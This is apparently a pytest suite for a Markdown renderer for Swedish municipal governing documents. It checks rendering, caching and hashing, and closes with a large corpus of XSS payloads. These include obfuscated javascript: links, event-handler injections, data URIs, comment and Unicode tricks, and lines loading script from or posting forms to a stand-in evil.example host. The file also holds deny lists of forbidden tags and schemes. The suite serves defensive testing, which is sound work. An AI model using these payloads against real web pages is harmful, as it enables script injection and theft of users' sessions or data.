"""The Markdown renderer for governing documents: what readers see, what attackers cannot do."""

from __future__ import annotations

import hashlib
import html
import re
from html.parser import HTMLParser

import pytest
from markupsafe import Markup

from app.services.markdown_render import render, render_cached, sha256_of

# --- What a reader sees ------------------------------------------------------------------------


def test_table_renders_with_header_cells() -> None:
    out = render("| Roll | Ansvar |\n|------|--------|\n| CISO | Styrning |\n")
    assert "<table>" in out
    assert "<th>Roll</th>" in out
    assert "<td>Styrning</td>" in out


def test_table_alignment_is_an_attribute_not_a_style() -> None:
    out = render("| A | B |\n|:--|--:|\n| 1 | 2 |\n")
    assert '<th align="left">A</th>' in out
    assert '<td align="right">2</td>' in out
    assert "style" not in out


def test_headings_start_at_h2_with_prefixed_ids() -> None:
    out = render("# Main\n\n## Syfte\n")
    assert '<h2 id="avsnitt-main">Main</h2>' in out
    assert '<h3 id="avsnitt-syfte">Syfte</h3>' in out
    assert "<h1" not in out
    assert 'id="main"' not in out


def test_heading_id_keeps_swedish_letters() -> None:
    out = render("## Åtgärder vid incident\n")
    assert '<h3 id="avsnitt-åtgärder-vid-incident">' in out


def test_repeated_headings_get_distinct_ids() -> None:
    ids = re.findall(r'id="([^"]+)"', render("# Ansvar\n\n# Ansvar\n"))
    assert len(ids) == 2
    assert len(set(ids)) == 2
    assert all(i.startswith("avsnitt-") for i in ids)


def test_lists_render() -> None:
    out = render("- ett\n- två\n\n3. tre\n4. fyra\n")
    assert "<ul>\n<li>ett</li>\n<li>två</li>\n</ul>" in out
    assert '<ol start="3">' in out
    assert "<li>fyra</li>" in out


def test_links_get_noopener_noreferrer() -> None:
    out = render("Se [MSB](https://www.msb.se \"Myndigheten\") och [avsnitt](#avsnitt-syfte).")
    assert ('<a href="https://www.msb.se" title="Myndigheten" rel="noopener noreferrer">MSB</a>'
            in out)
    assert '<a href="#avsnitt-syfte" rel="noopener noreferrer">avsnitt</a>' in out


def test_mail_autolink_becomes_mailto() -> None:
    hrefs = _Tags.parse(render("Kontakt: <lis@exempelby.se>")).attrs("href")
    assert hrefs == ["mailto:lis@exempelby.se"]


def test_bold_and_emphasis() -> None:
    out = render("Detta är **fet** och *kursiv* text.")
    assert "<strong>fet</strong>" in out
    assert "<em>kursiv</em>" in out


def test_entities_render_as_characters() -> None:
    out = render("S&auml;kerhet &amp; kontinuitet")
    assert "Säkerhet &amp; kontinuitet" in out


def test_raw_html_shows_as_text() -> None:
    out = render("Säg <b>hej</b>.")
    assert "&lt;b&gt;hej&lt;/b&gt;" in out
    assert "<b>" not in out


def test_images_are_not_rendered() -> None:
    out = render("![logga](https://exempelby.se/logga.png)")
    assert "<img" not in out
    assert "logga" in out


def test_code_block_escapes_its_content() -> None:
    out = render("    <script>alert(1)</script>\n")
    assert "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;" in out


def test_render_returns_markup() -> None:
    assert isinstance(render("text"), Markup)


# --- Caching, size, hashing --------------------------------------------------------------------


def test_render_cached_returns_the_same_result_for_the_same_key() -> None:
    text = "# Policy\n\nInformationssäkerhet är **allas** ansvar.\n"
    key = sha256_of(text)
    first = render_cached(key, text)
    assert first == render(text)
    assert render_cached(key, text) is first


def test_render_cached_keys_on_the_key_not_the_text() -> None:
    # Published versions never change, so a key is only ever paired with one text.
    key = sha256_of("test_render_cached_keys_on_the_key_not_the_text")
    assert render_cached(key, "första") == render_cached(key, "andra")


_PARAGRAPH = (
    "Kommunkoncernens informationssäkerhetsarbete bedrivs systematiskt och riskbaserat. "
    "Varje förvaltning och bolag ansvarar för att informationstillgångar klassas, att "
    "åtgärder vid incident är kända och att behörigheter följs upp minst årligen."
)


def test_a_200_000_character_body_renders() -> None:
    paragraphs = []
    length = 0
    n = 0
    while length < 200_000:
        n += 1
        block = f"## Avsnitt {n}\n\n{_PARAGRAPH}\n\n" if n % 10 == 1 else f"{_PARAGRAPH}\n\n"
        paragraphs.append(block)
        length += len(block)
    text = "".join(paragraphs)[:200_000]
    out = render(text)
    assert out.count("<p>Kommunkoncernens") >= n - 1
    assert '<h3 id="avsnitt-avsnitt-1">Avsnitt 1</h3>' in out


def test_sha256_of_hashes_the_utf8_text() -> None:
    assert sha256_of("å") == hashlib.sha256("å".encode()).hexdigest()
    assert sha256_of("å") == hashlib.sha256(b"\xc3\xa5").hexdigest()


def test_sha256_of_does_not_normalise() -> None:
    # "å" precomposed and as a + combining ring look the same but are different texts.
    assert sha256_of("\u00e5") != sha256_of("a\u030a")
    assert sha256_of("text") != sha256_of("text ")


# --- What an attacker can't do -----------------------------------------------------------------


class _Tags(HTMLParser):
    """Every start tag in the output with its attributes, as a browser's tokenizer sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    @classmethod
    def parse(cls, markup: str) -> _Tags:
        parser = cls()
        parser.feed(markup)
        parser.close()
        return parser

    def attrs(self, name: str) -> list[str | None]:
        return [value for _, attrs in self.tags for key, value in attrs if key == name]


_FORBIDDEN_TAGS = ("script", "iframe", "object", "embed", "svg", "style", "meta", "form",
                   "img", "body", "link", "base", "math")
_FORBIDDEN_TAG_RE = re.compile(r"<\s*/?\s*(" + "|".join(_FORBIDDEN_TAGS) + r")\b", re.I)
_ALLOWED_SCHEMES = {"http", "https", "mailto"}
# What browsers drop from a URL before reading its scheme: whitespace and control characters.
_URL_NOISE_RE = re.compile(r"[\x00-\x20\x7f-\x9f]+")
_SCHEME_RE = re.compile(r"^([a-z][a-z0-9+.\-]*):", re.I)


def _href_scheme(href: str) -> str | None:
    cleaned = _URL_NOISE_RE.sub("", html.unescape(href))
    match = _SCHEME_RE.match(cleaned)
    return match.group(1).lower() if match else None


XSS_PAYLOADS = [
    # <script> in its many forms
    pytest.param("<script>alert(1)</script>", id="script-plain"),
    pytest.param("<SCRIPT>alert(1)</SCRIPT>", id="script-upper-case"),
    pytest.param("<scr\nipt>alert(1)</script>", id="script-split-name"),
    pytest.param("<script\n>\nalert(1)\n</script\n>", id="script-split-across-lines"),
    pytest.param("<script src=//evil.example/x.js></script>", id="script-src"),
    pytest.param("| a | b |\n|---|---|\n| <script>alert(1)</script> | x |\n",
                 id="script-in-table-cell"),
    pytest.param("- ok\n- <script>alert(1)</script>\n", id="script-in-list-item"),
    pytest.param("# <script>alert(1)</script>\n", id="script-in-heading"),
    pytest.param("> <script>alert(1)</script>\n", id="script-in-blockquote"),
    pytest.param("<div>\n<script>alert(1)</script>\n</div>\n", id="script-in-html-block"),
    # Event handlers
    pytest.param("<img src=x onerror=alert(1)>", id="img-onerror"),
    pytest.param("<svg onload=alert(1)>", id="svg-onload"),
    pytest.param("<body onload=alert(1)>", id="body-onload"),
    pytest.param('<a onmouseover="alert(1)">x</a>', id="a-onmouseover"),
    pytest.param("<p/onclick=alert(1)>x</p>", id="slash-separated-onclick"),
    pytest.param("**<b onclick=alert(1)>fet</b>**", id="onclick-inside-strong"),
    # javascript: in Markdown links
    pytest.param("[x](javascript:alert(1))", id="md-link-javascript"),
    pytest.param("[x](JaVaScRiPt:alert(1))", id="md-link-mixed-case"),
    pytest.param("[x]( javascript:alert(1))", id="md-link-leading-space"),
    pytest.param("[x](java&#x09;script:alert(1))", id="md-link-tab-entity"),
    pytest.param("[x](java&#x0A;script:alert(1))", id="md-link-newline-entity"),
    pytest.param("[x](&#x20;javascript:alert(1))", id="md-link-leading-space-entity"),
    pytest.param("[x](&#106;avascript:alert(1))", id="md-link-decimal-entity"),
    pytest.param("[x](&#x6A;&#x61;vascript:alert(1))", id="md-link-hex-entities"),
    pytest.param("[x](javascript&colon;alert(1))", id="md-link-named-colon-entity"),
    pytest.param("[x](javascript%3Aalert(1))", id="md-link-url-encoded-colon"),
    pytest.param("[x](%6Aavascript:alert(1))", id="md-link-url-encoded-letter"),
    pytest.param("[x][r]\n\n[r]: javascript:alert(1)\n", id="reference-link-javascript"),
    pytest.param('[x][r]\n\n[r]: JAVASCRIPT:alert(1) "t"\n', id="reference-link-upper-titled"),
    pytest.param("[x]\n\n[x]: javascript:alert(1)\n", id="short-reference-javascript"),
    pytest.param("<javascript:alert(1)>", id="autolink-javascript"),
    pytest.param("<a href=\"javascript:alert(1)\">x</a>", id="raw-a-href-javascript"),
    # Other dangerous schemes
    pytest.param("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                 id="md-link-data-html"),
    pytest.param("![x](data:image/svg+xml,<svg onload=alert(1)>)", id="md-image-data-svg"),
    pytest.param("![x](javascript:alert(1))", id="md-image-javascript"),
    pytest.param('![x](https://ok.example/a.png "t" onerror=alert(1))', id="md-image-onerror"),
    pytest.param("[x](vbscript:msgbox(1))", id="md-link-vbscript"),
    pytest.param("[x](file:///etc/passwd)", id="md-link-file"),
    # Embedding and page-taking tags
    pytest.param("<svg><script>alert(1)</script></svg>", id="svg-with-script"),
    pytest.param("<iframe src=\"https://evil.example\"></iframe>", id="iframe"),
    pytest.param("<iframe srcdoc=\"<script>alert(1)</script>\">", id="iframe-srcdoc"),
    pytest.param("<object data=\"javascript:alert(1)\"></object>", id="object"),
    pytest.param("<embed src=\"javascript:alert(1)\">", id="embed"),
    pytest.param("<style>body{background:url(javascript:alert(1))}</style>", id="style"),
    pytest.param("<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
                 id="meta-refresh"),
    pytest.param("<form action=\"https://evil.example\"><input name=p></form>", id="form"),
    pytest.param("<math><mtext><script>alert(1)</script></mtext></math>", id="mathml"),
    pytest.param("<base href=\"https://evil.example/\">", id="base-href"),
    # Comment tricks
    pytest.param("<!-- --><script>alert(1)</script> -->", id="comment-then-script"),
    pytest.param("<!--<script>alert(1)</script>-->", id="script-inside-comment"),
    pytest.param("<!--> <img src=x onerror=alert(1)> -->", id="abrupt-comment-close"),
    # Markdown link syntax tricks
    pytest.param("[[x](javascript:alert(1))](http://ok.example)", id="nested-link"),
    pytest.param("[x](http://ok.example \"title\" onclick=alert(1))", id="link-extra-attribute"),
    pytest.param('[x](http://a.example "\\" onmouseover=\\"alert(1))',
                 id="link-title-escaped-quotes"),
    pytest.param('[x](http://a.example "" onmouseover="alert(1)")', id="link-title-breakout"),
    pytest.param("[x](<javascript:alert(1)>)", id="link-angle-bracket-destination"),
    pytest.param("[x](http://a.example/\"onmouseover=\"alert(1))", id="link-href-quote-breakout"),
    pytest.param("`<script>alert(1)</script>`", id="script-in-inline-code"),
    # Entity-encoded tags stay text
    pytest.param("&lt;script&gt;alert(1)&lt;/script&gt;", id="entity-encoded-script"),
    pytest.param("&#60;script&#62;alert(1)&#60;/script&#62;", id="numeric-entity-script"),
    pytest.param("\\<script>alert(1)\\</script>", id="backslash-escaped-script"),
    # Unicode tricks
    pytest.param("[x](java\u200bscript:alert(1))", id="zero-width-space-in-scheme"),
    pytest.param("[x](\u0000javascript:alert(1))", id="nul-before-scheme"),
    pytest.param("＜script＞alert(1)＜/script＞", id="fullwidth-angle-brackets"),
    pytest.param("<scr\u0131pt>alert(1)</scr\u0131pt>", id="dotless-i-script"),
    pytest.param("[x](\u2028javascript:alert(1))", id="line-separator-before-scheme"),
]


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_is_harmless(payload: str) -> None:
    out = str(render(payload))

    assert not _FORBIDDEN_TAG_RE.search(out), out

    parsed = _Tags.parse(out)
    assert not parsed.comments, out
    for tag, attrs in parsed.tags:
        names = [name.lower() for name, _ in attrs]
        assert not [n for n in names if n.startswith("on")], (tag, attrs)
        assert "src" not in names, (tag, attrs)
        assert "style" not in names, (tag, attrs)
        assert "srcdoc" not in names, (tag, attrs)

    for href in parsed.attrs("href"):
        scheme = _href_scheme(href or "")
        assert scheme is None or scheme in _ALLOWED_SCHEMES, (href, out)


def test_xss_corpus_is_big_enough() -> None:
    assert len(XSS_PAYLOADS) >= 30


def test_href_check_sees_through_obfuscation() -> None:
    # The test's own scheme reading must catch what a browser would run.
    assert _href_scheme("java&#x09;script:alert(1)") == "javascript"
    assert _href_scheme(" \tJaVaScRiPt:alert(1)") == "javascript"
    assert _href_scheme("&#106;avascript:x") == "javascript"
    assert _href_scheme("#avsnitt-syfte") is None
    assert _href_scheme("/styrdokument/1") is None
